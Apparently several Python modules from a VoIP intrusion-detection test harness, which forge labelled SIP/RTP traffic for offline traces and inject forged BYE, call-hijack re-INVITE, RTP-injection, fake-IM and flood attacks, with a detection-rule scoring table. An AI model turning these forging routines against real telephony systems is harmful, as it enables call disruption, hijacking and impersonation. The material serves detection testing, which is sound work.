                self._inject(mix, when, deadline)
                injected += 1
            if injected:
                self.stats.attack_sessions[kind] = (
                    self.stats.attack_sessions.get(kind, 0) + injected
                )
            if injected < count:
                self.stats.underdelivered[kind] = (
                    self.stats.underdelivered.get(kind, 0) + count - injected
                )

    def _inject(self, mix: AttackMix, when: float, deadline: float) -> None:
        kind = mix.kind
        rng = self.rng
        forge = self.forge
        attacker = self._next_attacker()
        frames: list[TimedFrame]
        # The orphan-RTP watch armed by a forged teardown/redirect stays
        # open for only half a second, so the victim call's media must
        # tick fast enough that the overrun lands a packet inside it —
        # floor the rate regardless of the scenario's ambient media_pps.
        victim_pps = max(self.spec.media_pps, 5.0)
        if kind == ATTACK_BYE:
            caller, callee = self._victim_pair()
            call_frames, handle, attack_time = forge.victim_call_with_overrun(
                caller,
                callee,
                when - 3.0,
                2.7,
                0.45,
                victim_pps,
                rng,
                overrun_party="caller",
            )
            attack_frames, session, injection = forge.forged_bye(
                attacker, handle, attack_time
            )
            frames = call_frames + attack_frames
            aors = (caller.aor, callee.aor)
        elif kind == ATTACK_HIJACK:
            caller, callee = self._victim_pair()
            call_frames, handle, attack_time = forge.victim_call_with_overrun(
                caller,
                callee,
                when - 3.0,
                2.7,
                0.45,
                victim_pps,
                rng,
                overrun_party="callee",
            )
            attack_frames, session, injection = forge.forged_reinvite(
                attacker, handle, attack_time
            )
            frames = call_frames + attack_frames
            aors = (caller.aor, callee.aor)
        elif kind == ATTACK_RTP:
            caller, callee = self._victim_pair()
            call_frames, handle = forge.call(
                caller, callee, when - 3.0, 6.0, self.spec.media_pps, rng
            )
            attack_frames, session, injection = forge.rtp_injection(
                attacker, handle, when, rng
            )
            frames = call_frames + attack_frames
            aors = (caller.aor, callee.aor)
        elif kind == ATTACK_FAKE_IM:
            victim, peer = self._victim_pair()
            im_frames, im_call_id = forge.im_conversation(
                victim, peer, when - 8.0, 2, 3.0
            )
            self._label_benign(BENIGN_IM, im_call_id, im_frames, (victim.aor, peer.aor))
            attack_frames, session, injection = forge.forged_im(
                attacker, victim, peer, when
            )
            frames = attack_frames
            aors = (victim.aor, peer.aor)
        elif kind == ATTACK_REGISTER_DOS:
            victim_index = self.rng.randrange(self.spec.subscribers)
            victim = forge.subscriber(victim_index)
            frames, session, injection = forge.register_flood(attacker, victim, when)
            aors = (victim.aor,)
        elif kind == ATTACK_INVITE_FLOOD:
            victim_index = self.rng.randrange(self.spec.subscribers)
            victim = forge.subscriber(victim_index)
            frames, session, injection = forge.invite_flood(
                attacker, victim, when, mix.packets, mix.pps
            )
            aors = (victim.aor,)
        elif kind == ATTACK_REGISTER_FLOOD:
            victim_index = self.rng.randrange(self.spec.subscribers)
            victim = forge.subscriber(victim_index)
            frames, session, injection = forge.register_flood_storm(
                attacker, victim, when, mix.packets, mix.pps
            )
            aors = (victim.aor,)
        elif kind == ATTACK_RTP_FLOOD:
            victim_index = self.rng.randrange(self.spec.subscribers)
            victim = forge.subscriber(victim_index)
            frames, session, injection = forge.rtp_flood(
                attacker, victim, when, mix.packets, mix.pps, rng
            )
            aors = (victim.aor,)
        else:  # pragma: no cover - guarded by scenario lint
            raise ValueError(f"unknown attack kind: {kind}")
        expected, accept = ATTACK_RULES[kind]
        # Label times live on the pcap microsecond grid, like the frames:
        # an alert fired on the injection frame of a round-tripped trace
        # must not fall a sub-microsecond ahead of the label's window.
        for frame in frames:
            frame.time = quantize_timestamp(frame.time)
        injection = quantize_timestamp(injection)
        label_id = len(self.truth.labels)
        self.truth.add(
            SessionLabel(
                label_id=label_id,
                kind=kind,
                session=session,
                start=min(f.time for f in frames),
                end=max(f.time for f in frames),
                subscribers=aors,
                injection_time=injection,
                deadline=injection + deadline,
                expected_rules=expected,
                accept_rules=accept,
                attacker=str(attacker.ip),
            )
        )
        for frame in frames:
            frame.label = label_id
        self._frames.extend(frames)

    # -- assembly ----------------------------------------------------------------

    def _assemble(self) -> Trace:
        order = sorted(
            range(len(self._frames)), key=lambda i: (self._frames[i].time, i)
        )
        trace = Trace(name=f"workload-{self.spec.name}-{self.seed}")
        frame_labels = self.truth.frame_labels
        for i in order:
            timed = self._frames[i]
            trace.append(timed.time, timed.frame)
            frame_labels.append(timed.label)
        return trace


def generate_workload(spec: ScenarioSpec, seed: int | None = None) -> WorkloadResult:
    """One-call convenience wrapper."""
    return WorkloadGenerator(spec, seed=seed).generate()


def trace_digest(trace: Trace) -> str:
    """Content hash of a trace at pcap resolution.

    Timestamps hash as the exact ``(seconds, microseconds)`` pair the
    pcap writer stores, so the digest of a generated trace equals the
    digest of the same trace written to disk and read back.
    """
    h = hashlib.sha256()
    for record in trace:
        seconds, micros = split_timestamp(record.timestamp)
        h.update(struct.pack("<qII", seconds, micros, len(record.frame)))
        h.update(record.frame)
    return h.hexdigest()
