"""Ground-truth labels for generated traffic.

Every frame the generator emits carries a label id pointing into the
:class:`GroundTruth` table; every SIP session (call / registration / IM
conversation / attack) gets one :class:`SessionLabel`.  Attack labels
additionally carry the detection contract the evaluator scores against:

* ``expected_rules`` — at least one of these firing inside the window
  counts as a *detection*;
* ``accept_rules`` — a superset: any of these firing inside the window
  is *attributed* to the attack (not a false alarm) even if it is not
  the headline rule (e.g. the hijack's redirected call also trips the
  rogue-source rule).

The JSON round-trip is exact, and :meth:`GroundTruth.digest` hashes the
whole table so determinism tests can compare label sets as one string.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field

BENIGN_CALL = "benign-call"
BENIGN_IM = "benign-im"
BENIGN_REGISTRATION = "benign-registration"

ATTACK_BYE = "bye"
ATTACK_HIJACK = "hijack"
ATTACK_FAKE_IM = "fake-im"
ATTACK_RTP = "rtp"
ATTACK_REGISTER_DOS = "register-dos"

# Volumetric flood kinds (the overload-control stress workloads).  They
# are *pressure labels*: expected_rules is empty, so the evaluator does
# not score them as detections (no rule is contractually required to
# fire on raw volume) — but their accept_rules still soak any alerts the
# flood legitimately trips, keeping those out of the false-alarm column.
ATTACK_INVITE_FLOOD = "invite-flood"
ATTACK_REGISTER_FLOOD = "register-flood"
ATTACK_RTP_FLOOD = "rtp-flood"

FLOOD_KINDS: tuple[str, ...] = (
    ATTACK_INVITE_FLOOD,
    ATTACK_REGISTER_FLOOD,
    ATTACK_RTP_FLOOD,
)

ATTACK_KINDS: tuple[str, ...] = (
    ATTACK_BYE,
    ATTACK_HIJACK,
    ATTACK_FAKE_IM,
    ATTACK_RTP,
    ATTACK_REGISTER_DOS,
) + FLOOD_KINDS

# The four attacks demonstrated in the paper (Table 1); register-dos is
# the §3.3 bonus scenario.
PAPER_ATTACKS: tuple[str, ...] = (
    ATTACK_BYE,
    ATTACK_HIJACK,
    ATTACK_FAKE_IM,
    ATTACK_RTP,
)

# Detection contract per attack kind: (expected, accept).
ATTACK_RULES: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    ATTACK_BYE: (("BYE-001",), ("BYE-001",)),
    ATTACK_HIJACK: (("HIJACK-001",), ("HIJACK-001", "RTP-002")),
    ATTACK_FAKE_IM: (("FAKEIM-001",), ("FAKEIM-001",)),
    ATTACK_RTP: (
        ("RTP-001", "RTP-002", "RTP-003"),
        ("RTP-001", "RTP-002", "RTP-003"),
    ),
    ATTACK_REGISTER_DOS: (("DOS-001",), ("DOS-001",)),
    # Pressure labels: nothing expected, plausible side-alerts accepted.
    ATTACK_INVITE_FLOOD: ((), ("DOS-001",)),
    ATTACK_REGISTER_FLOOD: ((), ("DOS-001",)),
    ATTACK_RTP_FLOOD: ((), ("RTP-001", "RTP-002", "RTP-003")),
}


@dataclass(frozen=True, slots=True)
class SessionLabel:
    """Ground truth for one generated session."""

    label_id: int
    kind: str  # BENIGN_* or ATTACK_*
    session: str  # SIP Call-ID ("" when no session applies)
    start: float
    end: float
    subscribers: tuple[str, ...] = ()  # AoRs involved
    # Attack-only fields:
    injection_time: float | None = None  # first malicious frame
    deadline: float | None = None  # alerts after this don't count
    expected_rules: tuple[str, ...] = ()
    accept_rules: tuple[str, ...] = ()
    attacker: str = ""  # attacker host IP

    @property
    def is_attack(self) -> bool:
        return self.injection_time is not None

    def as_dict(self) -> dict:
        out = {
            "label_id": self.label_id,
            "kind": self.kind,
            "session": self.session,
            "start": self.start,
            "end": self.end,
            "subscribers": list(self.subscribers),
        }
        if self.is_attack:
            out.update(
                injection_time=self.injection_time,
                deadline=self.deadline,
                expected_rules=list(self.expected_rules),
                accept_rules=list(self.accept_rules),
                attacker=self.attacker,
            )
        return out

    @classmethod
    def from_dict(cls, data: dict) -> "SessionLabel":
        return cls(
            label_id=int(data["label_id"]),
            kind=data["kind"],
            session=data["session"],
            start=float(data["start"]),
            end=float(data["end"]),
            subscribers=tuple(data.get("subscribers", ())),
            injection_time=data.get("injection_time"),
            deadline=data.get("deadline"),
            expected_rules=tuple(data.get("expected_rules", ())),
            accept_rules=tuple(data.get("accept_rules", ())),
            attacker=data.get("attacker", ""),
        )


@dataclass(slots=True)
class GroundTruth:
    """The label table for one generated trace."""

    scenario: str = "workload"
    seed: int = 0
    labels: list[SessionLabel] = field(default_factory=list)
    # Parallel to the trace's records: frame index -> label id.
    frame_labels: list[int] = field(default_factory=list)

    def add(self, label: SessionLabel) -> SessionLabel:
        self.labels.append(label)
        return label

    def attacks(self) -> list[SessionLabel]:
        return [label for label in self.labels if label.is_attack]

    def benign(self) -> list[SessionLabel]:
        return [label for label in self.labels if not label.is_attack]

    def by_session(self) -> dict[str, SessionLabel]:
        return {label.session: label for label in self.labels if label.session}

    def attack_counts(self) -> dict[str, int]:
        counts: dict[str, int] = {}
        for label in self.attacks():
            counts[label.kind] = counts.get(label.kind, 0) + 1
        return counts

    # -- persistence ---------------------------------------------------------

    def as_dict(self) -> dict:
        return {
            "scenario": self.scenario,
            "seed": self.seed,
            "labels": [label.as_dict() for label in self.labels],
            "frame_labels": self.frame_labels,
        }

    def to_json(self) -> str:
        return json.dumps(self.as_dict(), indent=2, sort_keys=True)

    @classmethod
    def from_dict(cls, data: dict) -> "GroundTruth":
        return cls(
            scenario=data.get("scenario", "workload"),
            seed=int(data.get("seed", 0)),
            labels=[SessionLabel.from_dict(d) for d in data["labels"]],
            frame_labels=[int(x) for x in data.get("frame_labels", [])],
        )

    @classmethod
    def from_json(cls, text: str) -> "GroundTruth":
        return cls.from_dict(json.loads(text))

    def digest(self) -> str:
        """Stable content hash of the whole label table."""
        return hashlib.sha256(self.to_json().encode("utf-8")).hexdigest()
