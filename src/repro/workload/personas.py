"""Subscriber personas and diurnal schedules for the virtual carrier.

A :class:`Persona` is a statistical profile of one subscriber class:
how often they call, how long they talk, how chatty they are over
instant messaging, how often they (re-)register, and *when* they do any
of it — the :class:`DiurnalProfile` modulates every per-hour rate over
the simulated day, so an office persona is busy 9-to-5 while a
night-shift persona peaks after midnight.

Everything here is plain data; the generator draws arrival times from
these rates with its own seeded RNG, so a persona is reusable across
scenario specs without hiding entropy.
"""

from __future__ import annotations

from dataclasses import dataclass, replace


@dataclass(frozen=True, slots=True)
class DiurnalProfile:
    """24 relative hourly weights; normalised so the mean weight is 1.

    A rate of ``k`` events/hour with weight ``w`` at hour ``h`` yields an
    instantaneous rate of ``k * w`` — the daily total stays ``24 * k``.
    """

    name: str
    weights: tuple[float, ...]

    def __post_init__(self) -> None:
        if len(self.weights) != 24:
            raise ValueError(
                f"diurnal profile {self.name!r} needs 24 weights, "
                f"got {len(self.weights)}"
            )
        total = sum(self.weights)
        if total <= 0:
            raise ValueError(f"diurnal profile {self.name!r} has no mass")
        mean = total / 24.0
        object.__setattr__(
            self, "weights", tuple(w / mean for w in self.weights)
        )

    def factor(self, sim_seconds: float, start_hour: float = 0.0) -> float:
        """Relative intensity at ``sim_seconds`` into the run."""
        hour = (start_hour + sim_seconds / 3600.0) % 24.0
        return self.weights[int(hour) % 24]


# fmt: off
_FLAT = DiurnalProfile("flat", (1.0,) * 24)
_OFFICE = DiurnalProfile(
    "office",
    (0.1, 0.1, 0.1, 0.1, 0.1, 0.2, 0.5, 1.0, 2.0, 3.0, 3.0, 2.5,
     2.0, 2.5, 3.0, 2.5, 2.0, 1.5, 0.8, 0.5, 0.3, 0.2, 0.1, 0.1),
)
_EVENING = DiurnalProfile(
    "evening",
    (0.4, 0.2, 0.1, 0.1, 0.1, 0.1, 0.3, 0.5, 0.6, 0.7, 0.8, 1.0,
     1.0, 0.9, 0.9, 1.0, 1.2, 1.8, 2.5, 3.0, 3.0, 2.5, 1.5, 0.8),
)
_NIGHT = DiurnalProfile(
    "night",
    (2.5, 3.0, 3.0, 2.5, 1.5, 0.8, 0.4, 0.2, 0.1, 0.1, 0.1, 0.1,
     0.2, 0.2, 0.3, 0.3, 0.5, 0.8, 1.0, 1.2, 1.5, 1.8, 2.0, 2.2),
)
# fmt: on

DIURNAL_PROFILES: dict[str, DiurnalProfile] = {
    p.name: p for p in (_FLAT, _OFFICE, _EVENING, _NIGHT)
}


@dataclass(frozen=True, slots=True)
class Persona:
    """One subscriber class's behavioural profile."""

    name: str
    weight: float = 1.0  # share of the population drawn from this persona
    calls_per_hour: float = 1.0
    call_seconds_mean: float = 20.0  # lognormal-ish body via mu/sigma below
    call_seconds_sigma: float = 0.6  # spread of ln(duration)
    call_seconds_min: float = 4.0
    ims_per_hour: float = 2.0
    im_burst_mean: float = 2.0  # messages per IM conversation
    registers_per_hour: float = 0.5
    auth_churn: bool = True  # REGISTER → 401 → credentialed retry → 200
    media_pps: float = 5.0  # RTP packets/second per direction
    diurnal: str = "flat"

    def profile(self) -> DiurnalProfile:
        return DIURNAL_PROFILES[self.diurnal]

    def with_overrides(self, **overrides) -> "Persona":
        return replace(self, **overrides)


# The built-in catalog.  A scenario spec can reweight these, override
# individual fields, or define new personas from scratch.
DEFAULT_PERSONAS: tuple[Persona, ...] = (
    Persona(
        name="residential",
        weight=5.0,
        calls_per_hour=0.8,
        call_seconds_mean=25.0,
        ims_per_hour=1.5,
        registers_per_hour=0.3,
        diurnal="evening",
    ),
    Persona(
        name="office",
        weight=3.0,
        calls_per_hour=2.5,
        call_seconds_mean=15.0,
        ims_per_hour=4.0,
        registers_per_hour=0.6,
        diurnal="office",
    ),
    Persona(
        name="call-center",
        weight=1.0,
        calls_per_hour=8.0,
        call_seconds_mean=10.0,
        call_seconds_sigma=0.4,
        ims_per_hour=0.5,
        registers_per_hour=1.0,
        diurnal="office",
    ),
    Persona(
        name="night-shift",
        weight=1.0,
        calls_per_hour=1.2,
        call_seconds_mean=18.0,
        ims_per_hour=2.0,
        registers_per_hour=0.4,
        diurnal="night",
    ),
)

PERSONA_FIELDS: frozenset[str] = frozenset(
    f.name for f in Persona.__dataclass_fields__.values() if f.name != "name"
)


def persona_catalog() -> dict[str, Persona]:
    return {p.name: p for p in DEFAULT_PERSONAS}
