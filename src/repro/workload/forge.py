"""Frame-level traffic forging for the virtual carrier.

The existing testbed simulates every endpoint as an object graph, which
tops out around a few hundred subscribers.  The forge takes the other
route — it emits *wire bytes directly* (the same
``build_udp_frame``/``SipRequest.encode`` path the cluster benchmark
uses), so a population is just arithmetic: one :class:`Subscriber` per
index, deterministic IPs/MACs/ports, and ladder methods that return
timed frames for one call / registration / IM conversation / attack.

Every ladder is validated against the detection path it must (or must
not) trip:

* benign calls stop the hangup party's RTP strictly before its BYE, so
  the orphan-RTP watch (armed on the BYE sender's own endpoint under a
  network-wide vantage) never fires;
* every call negotiates a *fresh* media port per party, so the RTP
  flow tracker never sees a port reused across calls (which would fake
  a sequence jump) and ``call_for_media`` never resolves a stale call;
* attack ladders reproduce the paper's four attacks byte-for-byte the
  way the canned attack modules do, but against arbitrary subscribers
  at arbitrary times.

All entropy comes from the caller's ``random.Random``; the forge's own
serial counter provides collision-free Call-IDs/tags/branches.  Same
seed + same call order → byte-identical frames.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.net.addr import Endpoint, IPv4Address, MacAddress
from repro.net.packet import build_udp_frame
from repro.rtp.packet import RtpPacket
from repro.sip.auth import compute_response
from repro.sip.constants import (
    METHOD_ACK,
    METHOD_BYE,
    METHOD_INVITE,
    METHOD_MESSAGE,
    METHOD_REGISTER,
    STATUS_OK,
    STATUS_RINGING,
    STATUS_UNAUTHORIZED,
)
from repro.sip.headers import NameAddr, Via
from repro.sip.message import SipRequest, SipResponse
from repro.sip.sdp import audio_offer
from repro.sip.uri import SipUri

SIP_PORT = 5060
# Subscriber address plan: collision-free integer arithmetic over /8
# style blocks.  Attackers live in a disjoint block so ground-truth
# labels can also be audited by address.
SUBSCRIBER_IP_BASE = (10 << 24) | (100 << 16)  # 10.100.0.0+
ATTACKER_IP_BASE = (10 << 24) | (66 << 16)  # 10.66.0.0+
REGISTRAR_IP = "10.0.0.10"
# Media ports rotate over even ports inside the distiller's RTP range;
# fresh port per call per party (see module docstring for why).
MEDIA_PORT_MIN = 10000
MEDIA_PORT_SLOTS = 27_000  # even ports 10000..63998


@dataclass(frozen=True, slots=True)
class Subscriber:
    """One simulated carrier user (or attacker host)."""

    index: int
    user: str
    domain: str
    ip: IPv4Address

    @property
    def aor(self) -> str:
        return f"{self.user}@{self.domain}"

    @property
    def uri(self) -> SipUri:
        return SipUri(user=self.user, host=self.domain)

    @property
    def mac(self) -> MacAddress:
        octets = self.ip.to_bytes()
        return MacAddress("02:00:" + ":".join(f"{b:02x}" for b in octets))

    @property
    def sip_endpoint(self) -> Endpoint:
        return Endpoint(self.ip, SIP_PORT)

    @property
    def password(self) -> str:
        return f"pw-{self.user}"


@dataclass(slots=True)
class TimedFrame:
    """One forged frame, pre-sort: (when, wire bytes, label id)."""

    time: float
    frame: bytes
    label: int = -1


@dataclass(slots=True)
class CallHandle:
    """What an attack ladder needs to know about a forged call."""

    call_id: str
    caller: Subscriber
    callee: Subscriber
    caller_tag: str
    callee_tag: str
    caller_media: Endpoint
    callee_media: Endpoint


class FrameForge:
    """Builds timed wire frames for calls, registrations, IMs and attacks."""

    def __init__(self, domain: str = "carrier.example") -> None:
        self.domain = domain
        self.registrar_ip = IPv4Address.parse(REGISTRAR_IP)
        self.registrar_mac = MacAddress("02:00:0a:00:00:0a")
        self._serial = 0
        self._ip_id = 0
        self._media_slots: dict[int, int] = {}  # subscriber index -> next slot

    # -- identity -----------------------------------------------------------

    def subscriber(self, index: int) -> Subscriber:
        return Subscriber(
            index=index,
            user=f"sub{index:06d}",
            domain=self.domain,
            ip=IPv4Address(SUBSCRIBER_IP_BASE + index),
        )

    def attacker(self, index: int) -> Subscriber:
        return Subscriber(
            index=index,
            user=f"mal{index:04d}",
            domain="intruder.invalid",
            ip=IPv4Address(ATTACKER_IP_BASE + index),
        )

    def next_media_port(self, sub: Subscriber) -> int:
        slot = self._media_slots.get(sub.index, 0)
        self._media_slots[sub.index] = slot + 1
        return MEDIA_PORT_MIN + 2 * (slot % MEDIA_PORT_SLOTS)

    def _next_serial(self) -> int:
        self._serial += 1
        return self._serial

    def new_call_id(self) -> str:
        return f"wl-{self._next_serial():08x}@{self.domain}"

    def _tag(self) -> str:
        return f"t{self._next_serial():06x}"

    def _branch(self) -> str:
        return f"z9hG4bK{self._next_serial():08x}"

    # -- low-level builders ---------------------------------------------------

    def _udp(
        self,
        time: float,
        src: Subscriber,
        dst: Subscriber,
        src_port: int,
        dst_port: int,
        payload: bytes,
    ) -> TimedFrame:
        self._ip_id = (self._ip_id + 1) & 0xFFFF
        return TimedFrame(
            time=time,
            frame=build_udp_frame(
                src.mac,
                dst.mac,
                src.ip,
                dst.ip,
                src_port,
                dst_port,
                payload,
                identification=self._ip_id,
            ),
        )

    def _registrar_udp(
        self, time: float, to: Subscriber, payload: bytes
    ) -> TimedFrame:
        self._ip_id = (self._ip_id + 1) & 0xFFFF
        return TimedFrame(
            time=time,
            frame=build_udp_frame(
                self.registrar_mac,
                to.mac,
                self.registrar_ip,
                to.ip,
                SIP_PORT,
                SIP_PORT,
                payload,
                identification=self._ip_id,
            ),
        )

    def _request(
        self,
        method: str,
        uri: SipUri,
        sender: Subscriber,
        from_addr: NameAddr,
        to_addr: NameAddr,
        call_id: str,
        cseq: int,
        body: bytes = b"",
        content_type: str | None = None,
        extra: tuple[tuple[str, str], ...] = (),
    ) -> bytes:
        request = SipRequest(method=method, uri=uri)
        via = Via("UDP", str(sender.ip), SIP_PORT, params=(("branch", self._branch()),))
        request.headers.add("Via", str(via))
        request.headers.add("Max-Forwards", "70")
        request.headers.add("From", str(from_addr))
        request.headers.add("To", str(to_addr))
        request.headers.add("Call-ID", call_id)
        request.headers.add("CSeq", f"{cseq} {method}")
        request.headers.add("Contact", f"<sip:{sender.user}@{sender.ip}:{SIP_PORT}>")
        for name, value in extra:
            request.headers.add(name, value)
        if body:
            request.headers.set("Content-Type", content_type or "text/plain")
        request.body = body
        return request.encode()

    def _response(
        self,
        status: int,
        responder: Subscriber | None,
        from_addr: NameAddr,
        to_addr: NameAddr,
        call_id: str,
        cseq: int,
        cseq_method: str,
        body: bytes = b"",
        content_type: str | None = None,
        extra: tuple[tuple[str, str], ...] = (),
    ) -> bytes:
        response = SipResponse(status=status)
        host = str(responder.ip) if responder is not None else str(self.registrar_ip)
        via = Via("UDP", host, SIP_PORT, params=(("branch", self._branch()),))
        response.headers.add("Via", str(via))
        response.headers.add("From", str(from_addr))
        response.headers.add("To", str(to_addr))
        response.headers.add("Call-ID", call_id)
        response.headers.add("CSeq", f"{cseq} {cseq_method}")
        for name, value in extra:
            response.headers.add(name, value)
        if body:
            response.headers.set("Content-Type", content_type or "text/plain")
        response.body = body
        return response.encode()

    def _rtp_stream(
        self,
        sender: Subscriber,
        receiver: Subscriber,
        src_port: int,
        dst_port: int,
        start: float,
        count: int,
        interval: float,
        first_seq: int,
        ssrc: int,
    ) -> list[TimedFrame]:
        frames: list[TimedFrame] = []
        for i in range(count):
            packet = RtpPacket(
                payload_type=0,
                sequence=(first_seq + i) & 0xFFFF,
                timestamp=(i * 160) & 0xFFFFFFFF,
                ssrc=ssrc,
                payload=b"\x00" * 24,
                marker=(i == 0),
            )
            frames.append(
                self._udp(
                    start + i * interval,
                    sender,
                    receiver,
                    src_port,
                    dst_port,
                    packet.encode(),
                )
            )
        return frames

    # -- benign ladders --------------------------------------------------------

    def call(
        self,
        caller: Subscriber,
        callee: Subscriber,
        start: float,
        duration: float,
        pps: float,
        rng,
    ) -> tuple[list[TimedFrame], CallHandle]:
        """A complete benign call: INVITE → 180 → 200 → ACK → RTP ↔ → BYE.

        The hangup party's RTP stops strictly before its BYE, so the
        network-wide orphan watch armed by the BYE sees silence.
        """
        call_id = self.new_call_id()
        caller_tag, callee_tag = self._tag(), self._tag()
        caller_port = self.next_media_port(caller)
        callee_port = self.next_media_port(callee)
        handle = CallHandle(
            call_id=call_id,
            caller=caller,
            callee=callee,
            caller_tag=caller_tag,
            callee_tag=callee_tag,
            caller_media=Endpoint(caller.ip, caller_port),
            callee_media=Endpoint(callee.ip, callee_port),
        )
        frames = self._call_setup(handle, start)
        media_start = start + 0.30
        interval = 1.0 / pps
        count = max(2, round(duration * pps))
        frames += self._rtp_stream(
            caller,
            callee,
            caller_port,
            callee_port,
            media_start,
            count,
            interval,
            first_seq=rng.randrange(0, 0x8000),
            ssrc=rng.getrandbits(32),
        )
        frames += self._rtp_stream(
            callee,
            caller,
            callee_port,
            caller_port,
            media_start + interval / 2,
            count,
            interval,
            first_seq=rng.randrange(0, 0x8000),
            ssrc=rng.getrandbits(32),
        )
        media_end = media_start + count * interval
        frames += self._call_teardown(
            handle, media_end + 0.25, by_caller=rng.random() < 0.5
        )
        return frames, handle

    def _call_setup(self, handle: CallHandle, start: float) -> list[TimedFrame]:
        caller, callee = handle.caller, handle.callee
        from_addr = NameAddr(caller.uri).with_tag(handle.caller_tag)
        to_bare = NameAddr(callee.uri)
        to_tagged = to_bare.with_tag(handle.callee_tag)
        offer = audio_offer(
            caller.ip,
            handle.caller_media.port,
            session_id=str(self._next_serial()),
            user=caller.user,
        ).encode()
        answer = audio_offer(
            callee.ip,
            handle.callee_media.port,
            session_id=str(self._next_serial()),
            user=callee.user,
        ).encode()
        invite = self._request(
            METHOD_INVITE,
            callee.uri,
            caller,
            from_addr,
            to_bare,
            handle.call_id,
            1,
            body=offer,
            content_type="application/sdp",
        )
        ringing = self._response(
            STATUS_RINGING,
            callee,
            from_addr,
            to_tagged,
            handle.call_id,
            1,
            METHOD_INVITE,
        )
        ok = self._response(
            STATUS_OK,
            callee,
            from_addr,
            to_tagged,
            handle.call_id,
            1,
            METHOD_INVITE,
            body=answer,
            content_type="application/sdp",
        )
        ack = self._request(
            METHOD_ACK,
            callee.uri,
            caller,
            from_addr,
            to_tagged,
            handle.call_id,
            1,
        )
        return [
            self._udp(start, caller, callee, SIP_PORT, SIP_PORT, invite),
            self._udp(start + 0.08, callee, caller, SIP_PORT, SIP_PORT, ringing),
            self._udp(start + 0.20, callee, caller, SIP_PORT, SIP_PORT, ok),
            self._udp(start + 0.24, caller, callee, SIP_PORT, SIP_PORT, ack),
        ]

    def _call_teardown(
        self, handle: CallHandle, when: float, by_caller: bool
    ) -> list[TimedFrame]:
        caller, callee = handle.caller, handle.callee
        if by_caller:
            sender, receiver = caller, callee
            from_addr = NameAddr(caller.uri).with_tag(handle.caller_tag)
            to_addr = NameAddr(callee.uri).with_tag(handle.callee_tag)
        else:
            sender, receiver = callee, caller
            from_addr = NameAddr(callee.uri).with_tag(handle.callee_tag)
            to_addr = NameAddr(caller.uri).with_tag(handle.caller_tag)
        bye = self._request(
            METHOD_BYE, receiver.uri, sender, from_addr, to_addr, handle.call_id, 2
        )
        ok = self._response(
            STATUS_OK, receiver, from_addr, to_addr, handle.call_id, 2, METHOD_BYE
        )
        return [
            self._udp(when, sender, receiver, SIP_PORT, SIP_PORT, bye),
            self._udp(when + 0.05, receiver, sender, SIP_PORT, SIP_PORT, ok),
        ]

    def registration(
        self, sub: Subscriber, start: float, auth_churn: bool
    ) -> tuple[list[TimedFrame], str]:
        """REGISTER ladder; with ``auth_churn`` the full 401 digest dance.

        Returns ``(frames, call_id)``.
        """
        call_id = self.new_call_id()
        tag = self._tag()
        from_addr = NameAddr(sub.uri).with_tag(tag)
        to_addr = NameAddr(sub.uri)
        registrar_uri = SipUri(user="", host=self.domain)
        frames: list[TimedFrame] = []
        cseq = 1
        if auth_churn:
            bare = self._request(
                METHOD_REGISTER, registrar_uri, sub, from_addr, to_addr, call_id, cseq
            )
            nonce = f"{self._next_serial():032x}"
            challenge = self._response(
                STATUS_UNAUTHORIZED,
                None,
                from_addr,
                to_addr.with_tag(self._tag()),
                call_id,
                cseq,
                METHOD_REGISTER,
                extra=(
                    (
                        "WWW-Authenticate",
                        f'Digest realm="{self.domain}", nonce="{nonce}", algorithm=MD5',
                    ),
                ),
            )
            frames.append(
                self._udp(start, sub, self._registrar_stub(), SIP_PORT, SIP_PORT, bare)
            )
            frames.append(self._registrar_udp(start + 0.05, sub, challenge))
            cseq += 1
            start += 0.10
            digest = compute_response(
                sub.user,
                self.domain,
                sub.password,
                METHOD_REGISTER,
                str(registrar_uri),
                nonce,
            )
            authorization = (
                f'Digest username="{sub.user}", realm="{self.domain}", '
                f'nonce="{nonce}", uri="{registrar_uri}", response="{digest}", '
                f"algorithm=MD5"
            )
            register = self._request(
                METHOD_REGISTER,
                registrar_uri,
                sub,
                from_addr,
                to_addr,
                call_id,
                cseq,
                extra=(("Authorization", authorization),),
            )
        else:
            register = self._request(
                METHOD_REGISTER, registrar_uri, sub, from_addr, to_addr, call_id, cseq
            )
        ok = self._response(
            STATUS_OK,
            None,
            from_addr,
            to_addr.with_tag(self._tag()),
            call_id,
            cseq,
            METHOD_REGISTER,
            extra=(("Contact", f"<sip:{sub.user}@{sub.ip}:{SIP_PORT}>"),),
        )
        frames.append(
            self._udp(start, sub, self._registrar_stub(), SIP_PORT, SIP_PORT, register)
        )
        frames.append(self._registrar_udp(start + 0.05, sub, ok))
        return frames, call_id

    def _registrar_stub(self) -> Subscriber:
        return Subscriber(
            index=-1, user="registrar", domain=self.domain, ip=self.registrar_ip
        )

    def im_conversation(
        self,
        sender: Subscriber,
        receiver: Subscriber,
        start: float,
        count: int,
        spacing: float,
    ) -> tuple[list[TimedFrame], str]:
        """``count`` MESSAGE/200 pairs in one Call-ID.

        Returns ``(frames, call_id)``.
        """
        call_id = self.new_call_id()
        tag = self._tag()
        from_addr = NameAddr(sender.uri).with_tag(tag)
        to_addr = NameAddr(receiver.uri)
        frames: list[TimedFrame] = []
        for i in range(count):
            when = start + i * spacing
            body = f"msg {i} from {sender.user}".encode()
            message = self._request(
                METHOD_MESSAGE,
                receiver.uri,
                sender,
                from_addr,
                to_addr,
                call_id,
                i + 1,
                body=body,
                content_type="text/plain",
            )
            ok = self._response(
                STATUS_OK,
                receiver,
                from_addr,
                to_addr.with_tag(self._tag()),
                call_id,
                i + 1,
                METHOD_MESSAGE,
            )
            frames.append(
                self._udp(when, sender, receiver, SIP_PORT, SIP_PORT, message)
            )
            frames.append(
                self._udp(when + 0.04, receiver, sender, SIP_PORT, SIP_PORT, ok)
            )
        return frames, call_id

    # -- attack ladders --------------------------------------------------------
    #
    # Each returns (frames, session, injection_time).  The caller wraps
    # them into ground-truth labels; `injection_time` is the first
    # malicious frame's timestamp.

    def forged_bye(
        self, attacker: Subscriber, handle: CallHandle, when: float
    ) -> tuple[list[TimedFrame], str, float]:
        """The BYE attack: teardown forged from the attacker's host.

        The BYE claims to come from the *caller*; the caller's RTP
        (still flowing — nobody told them) becomes the orphan flow.
        """
        from_addr = NameAddr(handle.caller.uri).with_tag(handle.caller_tag)
        to_addr = NameAddr(handle.callee.uri).with_tag(handle.callee_tag)
        bye = self._request(
            METHOD_BYE,
            handle.callee.uri,
            attacker,
            from_addr,
            to_addr,
